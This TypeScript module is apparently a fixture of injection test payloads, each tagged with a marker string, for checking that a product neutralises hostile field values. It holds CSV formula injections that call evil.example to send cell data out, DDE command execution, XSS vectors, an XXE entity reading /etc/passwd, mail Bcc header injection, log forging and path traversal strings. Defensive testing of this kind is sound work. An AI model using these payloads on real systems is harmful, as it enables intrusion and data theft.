/** In every plant, so that it is found wherever it gets to; no word of the product holds it. */
export const MARK = 'pl4nt';

export type Plant = { kind: 'formula' | 'markup' | 'lines' | 'mail' | 'separators' | 'path'; text: string };

const of = (kind: Plant['kind'], texts: readonly string[]): Plant[] => texts.map((text) => ({ kind, text }));

/** What somebody writes into a field so that a program which shows it does something else (OWASP, "Injection Flaws", "CSV Injection"). */
export const PLANTS: readonly Plant[] = [
  ...of('formula', [
    '=HYPERLINK("http://evil.example/pl4nt","open")',
    "=cmd|' /C pl4nt'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?pl4nt=",A1),"//a")',
    '=DDE("cmd";"/C pl4nt";"x")',
    '+1+pl4nt(1)',
    '-2+3+pl4nt(1)',
    '@SUM(1+1)*pl4nt()',
    '\t=pl4nt(1)',
    '\r=pl4nt(1)',
    '＝pl4nt(1)',
    '＋pl4nt(1)',
    '＠pl4nt(1)',
    "'=pl4nt(1)",
    ' =pl4nt(1)',
  ]),
  ...of('markup', [
    '<pl4nt-x>x</pl4nt-x><script>window.pl4nt=1</script>',
    '"><img src=x onerror=window.pl4nt=1>',
    "'><svg/onload=window.pl4nt=1>",
    '" onmouseover="window.pl4nt=1" pl4nt="',
    "' autofocus onfocus='window.pl4nt=1' pl4nt='",
    '</title></textarea></style></script><pl4nt-x>',
    '<!-- pl4nt --><pl4nt-x a="-->',
    ']]><pl4nt-x/><![CDATA[',
    '&lt;pl4nt-x&gt;&#60;pl4nt-x&#62;&amp;lt;pl4nt-x&amp;gt;',
    '<!DOCTYPE pl4nt [<!ENTITY pl4nt SYSTEM "file:///etc/passwd">]>&pl4nt;',
    '</t></is></c><c t="str"><f>pl4nt</f></c>',
    '</w:t></w:r><w:pl4nt/><w:r><w:t>',
    '_x003C_pl4nt-x_x003E_ _x000D_ _xpl4_',
    `{{7*7}}$\{7*7}<%= 7*7 %>#{7*7}pl4nt{pl4nt}`,
    'javascript:window.pl4nt=1',
    'data:text/html,<script>window.pl4nt=1</script>',
    ';}body{background:url(//evil.example/pl4nt)}expression(pl4nt)',
  ]),
  ...of('lines', [
    'pl4nt\n{"time":"2026-01-01T00:00:00.000Z","code":"return.signed","message":"pl4nt"}',
    'pl4nt","code":"return.signed","x":"',
    'pl4nt\u001b[2J\u001b[31m\u001b]0;pl4nt\u0007',
    'pl4nt\u009b31m\u0085\u2028\u2029pl4nt',
    'pl4nt\u202etxt.exe\u200b\ufeff',
  ]),
  ...of('mail', ['pl4nt\r\nBcc: pl4nt@evil.example\r\n\r\npl4nt', 'pl4nt%0d%0aBcc:%20pl4nt@evil.example']),
  ...of('separators', ['pl4nt,"a";b\tc|d', '"pl4nt', 'pl4nt""', "pl4nt';--"]),
  ...of('path', [
    '../../../pl4nt',
    '..\\..\\pl4nt',
    'C:\\pl4nt',
    '\\\\evil.example\\pl4nt',
    'file:///etc/pl4nt',
    '%2e%2e%2fpl4nt%00.csv',
    '__proto__ pl4nt',
    'CON pl4nt.',
  ]),
];

/** The plant of a number, all of them in turn. */
export const plantAt = (number: number): string => PLANTS[number % PLANTS.length]?.text ?? MARK;
